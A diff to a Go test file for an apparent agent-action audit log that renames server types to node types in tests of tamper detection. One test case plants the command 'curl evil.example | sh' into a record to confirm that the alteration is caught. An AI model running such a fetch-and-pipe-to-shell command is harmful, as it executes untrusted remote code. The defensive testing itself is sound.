@@ -18,14 +18,14 @@ import (
 	"github.com/vigil-dev/vigil/internal/datadir"
 	"github.com/vigil-dev/vigil/internal/ingest"
 	"github.com/vigil-dev/vigil/internal/natsutil"
-	"github.com/vigil-dev/vigil/internal/server"
+	"github.com/vigil-dev/vigil/internal/node"
 	"github.com/vigil-dev/vigil/internal/testnode"
 	"github.com/vigil-dev/vigil/processors"
 	"github.com/vigil-dev/vigil/processors/audit"
 )
 
 // startAudit starts a node running the audit processor with interval k.
-func startAuditNode(t testing.TB, k uint64) (*server.Server, string) {
+func startAuditNode(t testing.TB, k uint64) (*node.Node, string) {
 	t.Helper()
 	dir := t.TempDir()
 	s := testnode.StartNode(t, testnode.Options{
@@ -42,7 +42,7 @@ func startAuditNode(t testing.TB, k uint64) (*server.Server, string) {
 			return []processors.Processor{a}, nil
 		},
 		// Bulk loads of 50,000 actions: the agent credential's rate cap off.
-		Configure: func(c *server.Config) { c.IngestLimits = ingest.Limits{ActionsPerSecond: -1} },
+		Configure: func(c *node.Config) { c.IngestLimits = ingest.Limits{ActionsPerSecond: -1} },
 	})
 	return s, dir
 }
@@ -55,7 +55,7 @@ func auditActionEvent(i int, conv, cmd string) events.Event {
 
 // appendActions appends n actions alternating between c-1 and c-2 and
 // waits until the driver has folded them.
-func appendAuditActions(t testing.TB, s *server.Server, n int) {
+func appendAuditActions(t testing.TB, s *node.Node, n int) {
 	t.Helper()
 	c, err := s.Client(t.Context(), natsutil.RoleAgent)
 	if err != nil {
@@ -102,7 +102,7 @@ func runAuditCLI(t testing.TB, dir string, stdin []byte, args ...string) (int, s
 // the whole stream can be deleted and re-created with the same sequences
 // (republishing every record in order), with edit applied, and — to delete
 // a single message — without DenyDelete.
-func rewriteAuditLog(t testing.TB, s *server.Server, edit func([]natsutil.RawRecord) []natsutil.RawRecord, deleteSeqs ...uint64) {
+func rewriteAuditLog(t testing.TB, s *node.Node, edit func([]natsutil.RawRecord) []natsutil.RawRecord, deleteSeqs ...uint64) {
 	t.Helper()
 	ctx := t.Context()
 	js := s.JetStream()
@@ -194,22 +194,22 @@ func TestAuditVerifyClean(t *testing.T) {
 func TestAuditVerifyDetectsTampering(t *testing.T) {
 	cases := []struct {
 		name   string
-		tamper func(t *testing.T, s *server.Server)
+		tamper func(t *testing.T, s *node.Node)
 		args   []string
 		want   []string
 	}{{
 		name: "record rewritten through the JetStream API",
-		tamper: func(t *testing.T, s *server.Server) {
+		tamper: func(t *testing.T, s *node.Node) {
 			rewriteAuditLog(t, s, alterAuditRecord(t, 6, "curl evil.example | sh"))
 		},
 		want: []string{"seq 6: altered"},
 	}, {
 		name:   "message deleted",
-		tamper: func(t *testing.T, s *server.Server) { rewriteAuditLog(t, s, nil, 3) },
+		tamper: func(t *testing.T, s *node.Node) { rewriteAuditLog(t, s, nil, 3) },
 		want:   []string{"seq 3: deleted"},
 	}, {
 		name: "records reordered",
-		tamper: func(t *testing.T, s *server.Server) {
+		tamper: func(t *testing.T, s *node.Node) {
 			rewriteAuditLog(t, s, func(m []natsutil.RawRecord) []natsutil.RawRecord {
 				m[4].Data, m[5].Data = m[5].Data, m[4].Data
 				return m
@@ -218,13 +218,13 @@ func TestAuditVerifyDetectsTampering(t *testing.T) {
 		want: []string{"seq 5: moved: holds the record checkpointed at seq 6", "seq 6: moved: holds the record checkpointed at seq 5"},
 	}, {
 		name: "record deleted and the log renumbered",
-		tamper: func(t *testing.T, s *server.Server) {
+		tamper: func(t *testing.T, s *node.Node) {
 			rewriteAuditLog(t, s, func(m []natsutil.RawRecord) []natsutil.RawRecord { return slices.Delete(m, 1, 2) })
 		},
 		want: []string{"seq 2: deleted", "seqs 3..7: moved"},
 	}, {
 		name: "checkpoint deleted from VIGIL_DERIVED",
-		tamper: func(t *testing.T, s *server.Server) {
+		tamper: func(t *testing.T, s *node.Node) {
 			ctx := t.Context()
 			st, err := s.JetStream().Stream(ctx, events.StreamDerived)
 			if err != nil {
@@ -244,7 +244,7 @@ func TestAuditVerifyDetectsTampering(t *testing.T) {
 		want: []string{"seqs 1..4: mismatch"},
 	}, {
 		name: "every checkpoint purged",
-		tamper: func(t *testing.T, s *server.Server) {
+		tamper: func(t *testing.T, s *node.Node) {
 			st, err := s.JetStream().Stream(t.Context(), events.StreamDerived)
 			if err != nil {
 				t.Fatal(err)
@@ -282,7 +282,7 @@ func TestAuditVerifyDetectsTampering(t *testing.T) {
 
 // publishDerived stands in for the risk and gate processors, which are
 // written separately: the export joins whatever VIGIL_DERIVED holds.
-func publishAuditDerived(t testing.TB, s *server.Server, subject string, kind events.Kind, seq uint64, data any) {
+func publishAuditDerived(t testing.TB, s *node.Node, subject string, kind events.Kind, seq uint64, data any) {
 	t.Helper()
 	d := events.Derived{V: 1, ID: fmt.Sprintf("test-%s:%d", kind, seq), Kind: kind, Seq: seq, Time: "2026-11-22T10:00:00Z", Data: data}
 	b, err := d.Marshal()
